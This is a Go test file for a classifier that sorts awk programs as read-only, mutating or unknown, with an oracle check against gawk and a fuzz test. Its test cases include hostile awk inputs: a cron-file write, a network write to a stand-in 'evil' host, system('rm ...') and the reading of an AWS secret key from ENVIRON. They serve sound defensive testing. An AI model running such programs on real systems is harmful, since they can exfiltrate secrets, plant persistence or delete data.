package shell

import (
	"context"
	"os/exec"
	"strings"
	"testing"
	"time"
)

// awkCases: the read-only ones must stay read-only; each harmful one
// says what it does.
var awkCases = []struct {
	prog string
	want Class
	why  string
}{
	{"{print $1}", ReadOnly, ""},
	{"$3 > 1000 {print $1}", ReadOnly, ""},
	{"{s+=$5} END {print s}", ReadOnly, ""},
	{"NR>1", ReadOnly, ""},
	{"/error/ {c++} END {print c}", ReadOnly, ""},
	{"/error|fail/ {c++} END {print c+0}", ReadOnly, ""},
	{"$9 >= 500", ReadOnly, ""},
	{"$5 > 80 {print $1, $5}", ReadOnly, ""},
	{"{ if ($3 > 1000) print $0 }", ReadOnly, ""},
	{"{print ($1 > $2)}", ReadOnly, ""},
	{"{s += $3} END {print s / NR}", ReadOnly, ""},
	{"{n = $1 / 2; print n}", ReadOnly, ""},
	{"{ a++ / 2 }", ReadOnly, ""},
	{"{ x = a++ / 2 / 3 }", ReadOnly, ""},
	{"$0 ~ /a\\/b/ {print}", ReadOnly, ""},
	{"{print > \"/dev/stderr\"}", ReadOnly, ""},
	{"{printf \"%s\\n\", $1 > \"/dev/stdout\"}", ReadOnly, ""},
	{"{print \"a > b\"}", ReadOnly, ""},
	{"# print > file\n{print}", ReadOnly, ""},
	{"{a[$1]++} END {for (k in a) print k, a[k]}", ReadOnly, ""},
	{"BEGIN {FS=\":\"} $3 >= 1000 && $7 !~ /nologin/ {print $1}", ReadOnly, ""},
	{"NR==1, /^$/ {next} {print}", ReadOnly, ""},
	{"{ $1 = \"\"; print substr($0, 2) }", ReadOnly, ""},
	{"{ n = split($0, f, /,/); for (i = 1; i <= n; i++) t[i] += f[i] }", ReadOnly, ""},
	{"{ sub(/^ +/, \"\"); gsub(\"x\", \"y\"); print toupper($0), length }", ReadOnly, ""},
	{"{ printf(\"%-20s %d\\n\", $1, $2) }", ReadOnly, ""},
	{"{ print $NF-1, $(NF-1), -$2, !$3 }", ReadOnly, ""},
	{"{ while (i < 3) { i++ }; do { j++ } while (j < 2) }", ReadOnly, ""},
	{"{ x = $1 ~ \"a\" ? \"yes\" : \"no\"; print x }", ReadOnly, ""},
	{"{ if (NR % 2) next; else print }", ReadOnly, ""},
	{"END { if (c > 10) exit 1 }", ReadOnly, ""},
	{"{ delete a[$1]; delete b }", ReadOnly, ""},
	{"{ print 2^-1, 2**3; x ^= 2 }", ReadOnly, ""},
	{"{ print strftime(\"%F\", systime()) }", ReadOnly, ""},
	{"{\n\tprint $1,\n\t      $2\n}", ReadOnly, ""},
	{"($1, $2) in seen {next} {seen[$1, $2]; print}", ReadOnly, ""},

	{"{print > \"/tmp/out\"}", Mutating, "print > writes"},
	{"{print $1 > $2}", Mutating, "print > writes"},
	{"{print >> $1 \".log\"}", Mutating, "print >> writes"},
	{"{printf(\"%s\\n\", $0) > \"out.txt\"}", Mutating, "printf > writes"},
	{"{printf \"%s\", $0 >> \"/var/log/x\"}", Mutating, "printf >> writes"},
	{"{ if ($3 > 1000) print $1 > \"/etc/cron.d/x\" }", Mutating, "print > writes"},
	{"{ print > \"/dev/stderr\" \"x\" }", Mutating, "print > writes"}, // the target is a concatenation
	{"{ print \"x\" > \"/inet/tcp/0/evil/80\" }", Mutating, "print > writes"},

	{"{print | \"sort\"}", Unknown, "print | runs"},
	{"{print |& \"cat\"}", Unknown, "print | runs"},
	{"{\"date\" | getline d; print d}", Unknown, "| getline"},
	{"BEGIN { cmd = \"id\"; cmd |& getline x }", Unknown, "| getline"},
	{"{ while ((getline line < \"/etc/hosts\") > 0) n++ }", Unknown, "getline"},
	{"{ getline; print }", Unknown, "getline"},
	{"{system(\"rm \" $1)}", Unknown, "system()"},
	{"{ system (\"id\") }", Unknown, "system()"},
	{"{ a++ / 2; system(\"id\") } # /", Unknown, "system()"},    // a++ / divides: the ; and system() are code
	{"{ a++ /2; system(\"id\"); x = 1/ }", Unknown, "system()"}, // whatever follows, system() is seen first
	{"/x/ { system(\"id\") }", Unknown, "system()"},
	{"{ close(\"f\") }", Unknown, "close()"},
	{"{ fflush() }", Unknown, "fflush()"},
	{"{ print ENVIRON[\"AWS_SECRET_ACCESS_KEY\"] }", Unknown, "ENVIRON"},
	{"{ PROCINFO[\"sorted_in\"] = \"@ind_str_asc\" }", Unknown, "PROCINFO"},
	{"{ f = \"system\"; @f(\"id\") }", Unknown, "@"},
	{"@load \"filefuncs\"\n{print}", Unknown, "@"},
	{"@include \"lib.awk\"", Unknown, "@"},
	{"function f(x) { return x } { print f($1) }", Unknown, "defines a function"},
	{"{ print myfunc($1) }", Unknown, "myfunc()"},
	{"{ print $1 /x/ }", Unknown, "not understood"}, // / after an operand divides: x / then nothing
	{"{ x = /[/]/ }", Unknown, "regex"},             // awks differ on whether [/] ends the regex
	{"{ print \"unterminated }", Unknown, "not understood"},
	{"{ print", Unknown, "not understood"},
	{"{ 1 = 2 }", Unknown, "assignment"},
}

func TestAwkProgram(t *testing.T) {
	for _, tt := range awkCases {
		got, why := awkProgram(tt.prog)
		if got != tt.want || !strings.Contains(why, tt.why) {
			t.Errorf("awkProgram(%q) = %v %q, want %v …%s…", tt.prog, got, why, tt.want, tt.why)
		}
	}
}

// TestAwkOracle has gawk read each read-only program without running it
// (--pretty-print) and checks, in gawk's own rendering with its strings
// removed, that no call runs a command and no print writes a file.
func TestAwkOracle(t *testing.T) {
	gawk := needTool(t, "gawk")
	for _, tt := range awkCases {
		if tt.want != ReadOnly {
			continue
		}
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		cmd := exec.CommandContext(ctx, gawk, "--pretty-print=/dev/stdout", "--", tt.prog)
		cmd.Dir = t.TempDir()
		out, err := cmd.CombinedOutput()
		cancel()
		if err != nil {
			t.Errorf("gawk does not accept %q, read here as read-only: %v %s", tt.prog, err, out)
			continue
		}
		if bad := awkPrettyUnsafe(string(out)); bad != "" {
			t.Errorf("awkProgram(%q) = read-only, but gawk reads %q in it:\n%s", tt.prog, bad, out)
		}
	}
}

// awkPrettyUnsafe looks through gawk's pretty-printed program for calls
// and redirections: with strings removed, a print line with > or | at
// parenthesis depth 0, or a call that runs a command.
func awkPrettyUnsafe(pretty string) string {
	for _, line := range strings.Split(pretty, "\n") {
		var b strings.Builder
		for i := 0; i < len(line); i++ {
			switch {
			case line[i] == '"':
				for i++; i < len(line) && line[i] != '"'; i++ {
					if line[i] == '\\' {
						i++
					}
				}
				b.WriteString(`""`)
			case line[i] == '/' && awkPrettyRegexAt(b.String()):
				bracket := false
				for i++; i < len(line) && (line[i] != '/' || bracket); i++ {
					switch line[i] {
					case '\\':
						i++
					case '[':
						bracket = true
					case ']':
						bracket = false
					}
				}
				b.WriteString("//")
			default:
				b.WriteByte(line[i])
			}
		}
		l := strings.TrimSpace(b.String())
		for _, w := range []string{"system(", "getline", "close(", "fflush(", "|", "ENVIRON", "@"} {
			if strings.Contains(l, w) {
				return w
			}
		}
		if strings.HasPrefix(l, "print") {
			depth := 0
			for _, r := range l {
				switch r {
				case '(':
					depth++
				case ')':
					depth--
				case '>':
					if depth == 0 && !strings.Contains(l, `> ""`) {
						return "print >"
					}
				}
			}
		}
	}
	return ""
}

// awkPrettyRegexAt reports whether a / after the text before it opens a
// regex in gawk's pretty-printed output, where division always follows an
// operand.
func awkPrettyRegexAt(before string) bool {
	before = strings.TrimRight(before, " \t")
	return before == "" || strings.ContainsAny(before[len(before)-1:], "(,~!&|{;=")
}

func FuzzAwkProgram(f *testing.F) {
	for _, tt := range awkCases {
		f.Add(tt.prog)
	}
	f.Fuzz(func(t *testing.T, s string) {
		c, why := awkProgram(s)
		if c != ReadOnly && c != Mutating && c != Unknown || c != ReadOnly && why == "" {
			t.Fatalf("awkProgram(%q) = %q %q", s, c, why)
		}
		// Whatever else the program holds, a call of system() after it
		// must be seen: a misread regex or string would hide it.
		if c == ReadOnly && !strings.ContainsAny(s, "\"#\\") {
			if c2, _ := awkProgram(s + "\n{ system(\"id\") }"); c2 == ReadOnly {
				t.Fatalf("awkProgram(%q + system()) = read-only", s)
			}
		}
	})
}
